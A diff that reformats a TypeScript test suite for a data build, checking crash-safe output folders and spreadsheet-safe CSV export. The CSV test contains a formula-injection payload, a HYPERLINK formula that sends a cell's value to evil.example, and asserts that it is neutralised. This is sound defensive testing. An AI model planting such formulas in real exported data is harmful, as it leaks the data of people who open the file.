@@ -17,8 +17,13 @@ function complete(dir: string): boolean {
   if (!existsSync(join(dir, 'manifest.json'))) return false;
   const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
   const files = [...manifest.tables.flatMap((t: { files: unknown[] }) => t.files), manifest.archive];
-  return files.every((f: { path: string; sha256: string }) =>
-    existsSync(join(dir, f.path)) && createHash('sha256').update(readFileSync(join(dir, f.path))).digest('hex') === f.sha256);
+  return files.every(
+    (f: { path: string; sha256: string }) =>
+      existsSync(join(dir, f.path)) &&
+      createHash('sha256')
+        .update(readFileSync(join(dir, f.path)))
+        .digest('hex') === f.sha256,
+  );
 }
 
 describe('a run killed at any point never leaves a partial output where the build reads', () => {
@@ -35,7 +40,9 @@ describe('a run killed at any point never leaves a partial output where the buil
       child.kill('SIGKILL');
       await exited;
       // The folder the build reads is whole, or (killed between the two renames) absent with the whole previous one beside it.
-      const previous = readdirSync(parent).filter((f) => f.startsWith('data.old-')).map((f) => join(parent, f));
+      const previous = readdirSync(parent)
+        .filter((f) => f.startsWith('data.old-'))
+        .map((f) => join(parent, f));
       expect(complete(out) || (!existsSync(out) && previous.some(complete)), `killed after ${delay} ms`).toBe(true);
     }
     const last = run(['data/template', '--out', out]);
@@ -102,7 +109,9 @@ describe('published CSVs are safe to open in a spreadsheet', () => {
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Xã Một"")"`);
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
     const conn = await (await DuckDBInstance.create()).connect();
-    const rows = (await conn.runAndReadAll(`SELECT unit_name FROM '${join(out, 'parquet', 'units.parquet')}' WHERE unit_code = '90001'`)).getRowObjectsJS();
+    const rows = (
+      await conn.runAndReadAll(`SELECT unit_name FROM '${join(out, 'parquet', 'units.parquet')}' WHERE unit_code = '90001'`)
+    ).getRowObjectsJS();
     expect(rows[0].unit_name).toBe(hostile);
     expect(readFileSync(join(out, 'csv', 'poverty.csv'), 'utf8')).toContain(`"'=HYPERLINK(`);
   });
